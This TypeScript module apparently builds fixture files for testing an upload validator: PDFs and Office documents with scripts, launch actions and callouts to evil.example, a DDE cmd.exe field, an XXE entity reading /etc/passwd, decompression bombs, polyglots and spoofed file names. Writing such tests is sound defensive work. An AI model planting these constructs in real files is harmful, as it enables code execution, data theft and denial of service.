import { deflateSync } from 'node:zlib'
import { PDFName, PDFString } from 'pdf-lib'
import sharp from 'sharp'
import { makeArchive } from '../support/make-archive'
import { makeDocx, makeOdt, makePdf, makePhoto } from '../support/make-files'
import { makeQuineArchive } from '../support/make-quine-archive'
import type { FileTrick } from './file-trick'
import { makeTrickOnce } from './make-trick-once'

type Pdf = Parameters<NonNullable<Parameters<typeof makePdf>[0]>>[0]
const script = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }

const activeParts: readonly (readonly [string, (pdf: Pdf) => void])[] = [
  [
    'a script when it is opened',
    ({ document, context }) => document.catalog.set(PDFName.of('OpenAction'), context.register(context.obj(script))),
  ],
  [
    'a script of the document',
    ({ document, context }) =>
      document.catalog.set(
        PDFName.of('Names'),
        context.obj({ JavaScript: { Names: [PDFString.of('a'), context.register(context.obj(script))] } }),
      ),
  ],
  [
    'a script with escapes in its name',
    ({ context }) => void context.register(context.obj({ S: PDFName.of('J#61vaScript') })),
  ],
  [
    'an action of a page',
    ({ document, context }) => document.getPage(0).node.set(PDFName.of('AA'), context.obj({ O: { S: 'Named' } })),
  ],
  [
    'a program to start',
    ({ context }) => void context.register(context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') })),
  ],
  [
    'a form to send elsewhere',
    ({ context }) =>
      void context.register(context.obj({ Type: 'Action', S: 'SubmitForm', F: PDFString.of('http://evil.example') })),
  ],
  ['a file inside', ({ context }) => void context.register(context.stream('MZ', { Type: 'EmbeddedFile' }))],
  [
    'an attachment',
    ({ context }) => void context.register(context.obj({ Type: 'Filespec', EF: { F: context.nextRef() } })),
  ],
  ['a film', ({ context }) => void context.register(context.obj({ Type: 'Annot', Subtype: 'RichMedia' }))],
  [
    'a form with a program of its own',
    ({ document, context }) => document.catalog.set(PDFName.of('AcroForm'), context.obj({ XFA: [] })),
  ],
]

const activePdfs = [false, true].flatMap((packed) =>
  activeParts.map(
    ([what, change]): FileTrick => [
      `a PDF with ${what}${packed ? ', packed' : ''}`,
      'cv.pdf',
      () => makePdf(change, { packed }),
      ['active'],
    ],
  ),
)

async function makeUpdatedPdf(): Promise<Buffer> {
  const old = '9000 0 obj\n<< /S /JavaScript /JS (app.alert) >>\nendobj\n9000 0 obj\n<< >>\nendobj\n'
  return Buffer.from((await makePdf()).toString('latin1').replace(/xref\n/, `${old}xref\n`), 'latin1')
}

async function makePdfBomb(): Promise<Buffer> {
  const bomb = deflateSync(Buffer.alloc(100_000_000))
  const head = `9000 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`
  const [start = '', end = ''] = (await makePdf()).toString('latin1').split('xref\n')
  const tail = Buffer.from(`\nendstream\nendobj\nxref\n${end}`, 'latin1')
  return Buffer.concat([Buffer.from(`${start}${head}`, 'latin1'), bomb, tail])
}

async function makeLockedPdf(): Promise<Buffer> {
  const lock = 'trailer\n<<\n/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 >>'
  return Buffer.from((await makePdf()).toString('latin1').replace(/trailer\s*<</, lock), 'latin1')
}

const otherPdfs: readonly FileTrick[] = [
  ['a PDF whose script an update has hidden', 'cv.pdf', makeUpdatedPdf, ['active']],
  ['a PDF with a stream that becomes huge', 'cv.pdf', makePdfBomb, ['tooComplex']],
  [
    'a PDF with objects that hide in another stream',
    'cv.pdf',
    () =>
      makePdf(({ context }) => {
        context.register(context.stream('7 0 obj << /Type /ObjStm /N 1 /First 4 >> stream\nx\nendstream endobj', {}))
      }),
    ['damaged'],
  ],
  ['a PDF with a password', 'cv.pdf', makeLockedPdf, ['locked']],
  ['a PDF that ends too soon', 'cv.pdf', async () => (await makePdf()).subarray(0, 60), ['damaged']],
  ['a PDF of its first line', 'cv.pdf', () => Buffer.from('%PDF-1.7\nnothing else\n'), ['damaged']],
]

const external =
  '<Relationships><Relationship Id="a" Type="http://x/attachedT" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'

const activeDocuments = (
  [
    ['macros', 'word/vbaProject.bin', 'x'],
    ['a control', 'word/activeX/activeX1.xml', '<a/>'],
    ['an object of another program', 'word/embeddings/oleObject1.bin', 'x'],
    ['a template from elsewhere', 'word/_rels/settings.xml.rels', external],
    ['a command', 'word/document.xml', '<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>'],
    ['an entity', 'word/footer.xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>'],
    ['a page', 'word/media/a.html', '<script>'],
    ['a program', 'word/media/a.exe', 'MZ'],
  ] as const
).map(([what, name, content]): FileTrick => {
  return [`a document with ${what}`, 'letter.docx', () => makeDocx([{ name, content }]), ['active']]
})

const activeOpenDocuments = (
  [
    ['macros', 'Basic/Standard/Module1.xml', '<a/>'],
    ['a script', 'Scripts/python/a.py', 'x'],
    ['an event', 'styles.xml', '<script:event-listener a="b"/>'],
    ['an object', 'Object 1/content.xml', '<a/>'],
  ] as const
).map(([what, name, content]): FileTrick => {
  return [`an open document with ${what}`, 'letter.odt', () => makeOdt([{ name, content }]), ['active']]
})

const brokenArchives = (
  [
    [
      'whose entries are named otherwise than the table says',
      () => makeArchive([{ name: 'a.xml', localName: 'b.xml', content: '' }]),
    ],
    ['with a name that leads out', () => makeDocx([{ name: '../../evil.xml', content: '' }])],
    ['with the same name twice', () => makeDocx([{ name: 'WORD/document.xml', content: '' }])],
    [
      'whose list of contents unpacks to more than it says',
      () => makeArchive([{ name: '[Content_Types].xml', content: 'x'.repeat(9000), claimedSize: 9 }]),
    ],
    ['with something before it', () => Buffer.concat([Buffer.from('x'), makeDocx()])],
    ['with something after it', () => Buffer.concat([makeDocx(), Buffer.from('x')])],
  ] as const
).map(([what, make]): FileTrick => [`a document ${what}`, 'letter.docx', make, ['damaged', 'disguised']])

function makeArchiveBomb(): Buffer {
  const huge = Array.from({ length: 4 }, (_, index) => ({
    name: `word/${index}.xml`,
    content: Buffer.alloc(40_000_000),
  }))
  return makeDocx(huge)
}

/** An archive in an archive, a hundred times: whoever opens what is in it opens no end of them. */
function makeNestedArchive(): Buffer {
  return Array.from({ length: 100 }).reduce<Buffer>(
    (content) => makeArchive([{ name: 'r.zip', content, isStored: true }]),
    makeArchive([{ name: 'a.txt', content: 'a' }]),
  )
}

/** Files that are not what they say, or of a kind that nobody takes. */
const disguised: readonly FileTrick[] = [
  ['nothing', 'cv.pdf', () => Buffer.alloc(0), ['empty']],
  ['too much', 'cv.pdf', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5_242_880)]), ['tooLarge']],
  ['a picture as a PDF', 'cv.pdf', () => makePhoto(), ['disguised']],
  ['a PDF as a picture', 'photo.png', () => makePdf(), ['disguised']],
  ['an archive as a document', 'letter.docx', () => makeArchive([{ name: 'a.txt', content: 'a' }]), ['disguised']],
  ['a program as a PDF', 'cv.pdf', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]), ['disguised']],
  ['a page as a picture', 'photo.png', () => Buffer.from('<html><script>alert(1)</script>'), ['disguised']],
  [
    'an installer as a document',
    'letter.docx',
    () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(2000, '0'), 'hex'),
    ['disguised'],
  ],
  ['a drawing that runs scripts', 'logo.svg', () => Buffer.from('<svg onload="alert(1)"/>'), ['notAccepted']],
  ['a page', 'cv.html', () => Buffer.from('<p>'), ['notAccepted']],
  ['a page as a text', 'cv.txt', () => Buffer.from('<html><script>alert(1)</script>'), ['notAccepted']],
  ['an archive', 'cv.zip', () => makeArchive([{ name: 'a', content: 'a' }]), ['notAccepted']],
  ['an archive of archives', 'r.zip', makeNestedArchive, ['notAccepted']],
  ['an archive that is in itself', 'r.zip', () => makeQuineArchive('r.zip'), ['notAccepted']],
  ['an archive that is in itself as a picture', 'photo.png', () => makeQuineArchive('r.zip'), ['disguised']],
  ['a PDF of another name in another direction', 'a\u202Efdp.exe', () => makePdf(), ['notAccepted']],
  ['an archive of archives as a document', 'letter.docx', makeNestedArchive, ['disguised']],
  ['an archive of archives as a picture', 'photo.png', makeNestedArchive, ['disguised']],
  ['a document with macros by its name', 'cv.docm', () => makeDocx(), ['notAccepted']],
  ['an old document', 'cv.doc', () => makeDocx(), ['notAccepted']],
  ['a name without ending', 'cv', () => makePdf(), ['notAccepted']],
  ['a second ending', 'cv.pdf.exe', () => makePdf(), ['notAccepted']],
  ['a zero in the name', 'cv.exe\u0000.png', () => makePdf(), ['disguised']],
]

/** Files of one kind that other programs read as another. */
const polyglots = (
  [
    [
      'a picture that is also an archive',
      'photo.jpg',
      async () => Buffer.concat([await makePhoto(), makeArchive([{ name: 'a', content: 'a' }])]),
    ],
    [
      'a picture with a page behind it',
      'photo.png',
      async () => Buffer.concat([await makePhoto('png'), Buffer.from('<script>alert(1)</script>')]),
    ],
    [
      'a picture with a program in it',
      'photo.jpg',
      async () => Buffer.concat([await makePhoto(), Buffer.from('<?php system(1);')]),
    ],
    [
      'a PDF that is also an archive',
      'cv.pdf',
      async () => Buffer.concat([await makePdf(), makeArchive([{ name: 'a', content: 'a' }])]),
    ],
    ['a PDF that begins as a page', 'cv.pdf', async () => Buffer.concat([Buffer.from('<html>'), await makePdf()])],
  ] as const
).map(([what, name, make]): FileTrick => [what, name, make, ['disguised']])

const paint = (size: number, background: string) =>
  sharp({ create: { width: size, height: size, channels: 3, background } })

const pictures: readonly FileTrick[] = [
  [
    'a picture of more points than any camera makes',
    'photo.png',
    () => paint(9000, '#fff').png({ compressionLevel: 9 }).toBuffer(),
    ['tooManyPixels'],
  ],
  [
    'a torn picture',
    'photo.jpg',
    async () => {
      const photo = await paint(400, '#123').jpeg().toBuffer()
      return photo.subarray(0, photo.length / 2)
    },
    ['damaged'],
  ],
]

const tricks: readonly FileTrick[] = [
  ...activePdfs,
  ...otherPdfs,
  ...activeDocuments,
  ...activeOpenDocuments,
  ...brokenArchives,
  ['a document that unpacks to a hundred times its size', 'letter.docx', makeArchiveBomb, ['tooComplex']],
  ...disguised,
  ...polyglots,
  ...pictures,
]
export const fileTricks = tricks.map(makeTrickOnce)
